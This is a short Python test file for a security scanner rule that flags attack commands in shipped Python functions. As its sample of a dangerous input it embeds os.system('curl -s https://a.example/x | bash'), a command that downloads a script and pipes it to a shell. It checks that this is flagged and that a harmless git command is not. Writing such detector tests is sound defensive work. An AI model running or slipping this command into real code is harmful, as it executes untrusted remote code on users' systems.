"""Rule python-command: no function of a release runs a command of an attack."""

from __future__ import annotations

from inspect_samples import found, told

from watchword.inspect.facts import Verdict


def test_a_download_piped_into_a_shell_is_dangerous() -> None:
    """The command is told even where only a call of the function would run it."""
    assert ("python-command", Verdict.DANGEROUS) in told(
        b"import os\ndef f():\n    os.system('curl -s https://a.example/x | bash')\n", "shipped.py"
    )


def test_an_ordinary_command_in_a_function_is_silent() -> None:
    """Scripts run programs when they are asked to."""
    assert found(b"import os\ndef f():\n    os.system('git rev-parse HEAD')\n", "shipped.py") == set()
